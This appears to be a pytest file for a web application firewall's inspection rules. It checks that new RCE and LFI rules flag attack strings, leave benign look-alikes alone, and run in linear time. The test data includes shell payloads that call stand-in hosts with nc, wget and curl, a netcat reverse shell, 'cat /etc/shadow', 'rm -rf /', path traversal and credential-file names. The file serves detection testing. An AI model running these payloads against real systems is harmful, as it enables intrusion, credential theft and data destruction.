"""Rule by rule: payloads written for each rule added in the rce/lfi round, and the benign values
that look most like them and must stay quiet. Each pair is scanned with and without the screen,
so a rule whose material the screen does not know about fails here rather than in production."""

from __future__ import annotations

import time

import pytest

from bastion.checks.inspection import Inspector, request_values
from bastion.checks.inspection._normalize import shell_view

SCREENED, UNSCREENED = Inspector(), Inspector(screen=False)

# rule -> (attacks that must be flagged by that rule's family, look-alikes that must not be flagged)
CASES: dict[str, tuple[str, list[str], list[str]]] = {
    "bash parameter expansion with an operator": (
        "rce",
        ["${HOME#/}", "${PATH%%:*}", "${x:-/bin/sh}", "${v//a/b}", "${cmd/a/b}", "${n^^}", "${#PATH}"],
        ["Hello ${user.name}", "${port:8080}", "${n%2 ? 'odd' : 'even'}", "${a / b}", "${total/2}",
         "Total: ${price * qty}", "50% off ${item.name}"],
    ),
    "output process substitution": (
        "rce",
        [">(tee /tmp/x)", "x >(gzip)", "; echo a >(nc evil.example 80)"],
        ["a->(b)", "x => (y)", "I'm so mad >(", "if x >(y + 1)", "price >(10)"],
    ),
    "backslash before a command at the start": (
        "rce",
        ["\\whoami", "\\wget http://evil.example/x", "\\id; \\uname -a"],
        ["\\section{Intro}", "\\begin{document}", "\\today", "\\\\server\\share\\report.pdf",
         "\\n\\nThanks", "\\Windows\\Temp"],
    ),
    "batch IF with bracketed operands": (
        "rce",
        ["if (%2)==() goto end", "if {%USER%} == {} exit", "if (x) == (x) del /q *.*", "if/i %a%==b echo x"],
        ["if (x == 1) {", "if (a) == (b): return a", "if (%hash) { print 1 }", "if (a)==(b) then",
         "If (you) == (me) and we agree", "if {$a == $b} {puts x}", "if (a) == (b)\n  puts 'same'"],
    ),
    "a distinctive command, an operand and an option": (
        "rce",
        ["ssh box -p 2222", "curl evil.example -o /tmp/x", "nmap 10.0.0.0/8 -p 22", "ansible web --become x"],
        ["service center -open 24h", "perl necklace -gold plated", "tar heel fans - go team",
         "node version - 18", "ssh keys -- how to rotate them"],
    ),
    "command names: rmt, AppArmor tools": (
        "rce",
        [";rmt", "| rmt-tar", "aa-complain /usr/sbin/nginx", "sudo aa-teardown"],
        ["AA-rated bonds", "aa-battery charger", "AA status report", "rmts per hour"],
    ),
    "trap and eval run their argument": (
        "rce",
        ["; trap 'cat /etc/shadow' EXIT", "| eval 'rm -rf /'"],
        ["Mouse trap; trap the cat", "a trap: the real one", "eval: the results are in"],
    ),
    "a subshell after a separator": (
        "rce",
        ["x&&(whoami)", "a;(nc -e sh 10.0.0.1 1)", "|(ifconfig)"],
        ["Tom & (Jerry)", "salt & (pepper)", "A; (B)", "R&D (see below)"],
    ),
    "a Windows path after a command": (
        "rce",
        ["powershell C:\\Windows\\Temp\\x.ps1", "& start c:\\users\\public\\a"],
        ["Drive C:\\ is full", "see C:\\Users\\me\\notes", "type: C:\\x", "C:\\Program Files\\App\\app.exe"],
    ),
    "history expansion chains": (
        "rce",
        ["!-2!-3", "x !-1!!"],
        ["Wow!-1!", "Great!!!", "5 !- 3"],
    ),
    "credential dot-files of cloud clients": (
        "lfi",
        [".boto", "/home/u/.s3cfg", ".dockercfg", "/root/.vault-token"],
        ["boto3", "photo.bot", "robot", "s3cfg docs"],
    ),
    "backup copies of restricted names": (
        "lfi",
        ["wp-config.php.bak", "wp-config-php.old", "wp-config.php~", "settings.php.orig", "web.config.old",
         "config.yml.bak", "php.ini.save"],
        ["wp-content/uploads/2026/photo.jpg", "wp-configurator", "settings", "config", "web.configure",
         "my-config.yml.txt"],
    ),
    "compressed SQL dumps": (
        "lfi",
        ["db.sql.gz", "/downloads/site.sql.zip", "prod-2026.sql.bz2", "dump.sql.7z"],
        ["schema.sql", "migrations/0001_init.sql", "postgresql.tar.gz", "mysql.zip", "notes.sql.md",
         "backup-2026-03-14.zip"],
    ),
    "Vite dev-server endpoints": (
        "lfi",
        ["/@id/__x00__?import", "/@fs/etc/hosts?raw"],
        ["/users/@alice/posts", "@id", "user@idp.example"],
    ),
}  # fmt: skip


@pytest.mark.parametrize(
    ("family", "payload"), [(family, p) for family, attacks, _ in CASES.values() for p in attacks]
)
def test_new_rules_flag_their_attacks(family: str, payload: str) -> None:
    finding = SCREENED.scan(payload)
    assert finding is not None and finding.family == family, (payload, finding)
    assert UNSCREENED.scan(payload) is not None


@pytest.mark.parametrize("value", [v for _, _, benign in CASES.values() for v in benign])
def test_new_rules_leave_look_alikes_alone(value: str) -> None:
    assert SCREENED.scan(value) is None, SCREENED.scan(value)
    assert UNSCREENED.scan(value) is None, UNSCREENED.scan(value)


def test_shell_view_keeps_the_backslash_of_a_drive_letter() -> None:
    assert shell_view("type c:\\windows\\win.ini") == "type c:\\windowswin.ini"
    assert shell_view("c\\at /etc/passwd") == "cat /etc/passwd"


def test_multipart_file_name_is_also_inspected_as_sent() -> None:
    # The MIME parser reads "\\" in a quoted string as an escape; browsers send it unescaped.
    body = (
        b'--B\r\nContent-Disposition: form-data; name="f"; filename="..\\..\\x.php"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\nBIN\r\n--B--\r\n"
    )
    values = list(request_values("POST", "/up", [], body, "multipart/form-data; boundary=B"))
    names = [v for loc, v in values if loc == "form.f:filename"]
    assert names == ["....x.php", "..\\..\\x.php"]
    assert SCREENED.scan(names[-1]) is not None
    plain = b'--B\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\nx\r\n--B--\r\n'
    values = list(request_values("POST", "/up", [], plain, "multipart/form-data; boundary=B"))
    assert [v for loc, v in values if loc == "form.f:filename"] == ["a.txt"]


@pytest.mark.parametrize(
    "hostile",
    [
        "wp-config" + "-1" * 2040 + "!",  # a name with a backup suffix, repeated, that fails at the end
        ".env" + ".bak" * 1000 + " !",
        "settings.php" + "~" * 4000 + "!",
        "${a/" + "/" * 4000,
        "if (%1)" * 500,
        "if {a} == {b}" * 300,
        ">(" * 2000,
        "\\" * 4000,
        "ansible all " + "-m " * 1300,
        "!-1" * 1300,
    ],
)
def test_new_rules_cost_linear_time(hostile: str) -> None:
    # Measured at about 1 ms on 4 KiB; a quadratic pattern takes over 100 ms here. Best of three,
    # so that a busy machine does not fail the test.
    inspector = Inspector(paranoia=4)
    timings = []
    for _ in range(3):
        start = time.perf_counter()
        inspector.scan(hostile)
        timings.append(time.perf_counter() - start)
    assert min(timings) < 0.05
